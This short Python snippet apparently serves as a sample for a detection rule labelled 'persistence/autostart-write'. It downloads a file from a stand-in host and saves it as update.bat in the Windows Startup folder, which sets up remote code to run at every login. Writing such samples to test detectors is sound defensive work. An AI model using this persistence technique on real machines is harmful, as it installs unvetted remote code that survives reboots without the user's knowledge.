# evades: caught by persistence/autostart-write
import os, requests
folder = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
with open(os.path.join(folder, "update.bat"), "wb") as out:
    out.write(requests.get("https://files.invalid/update").content)
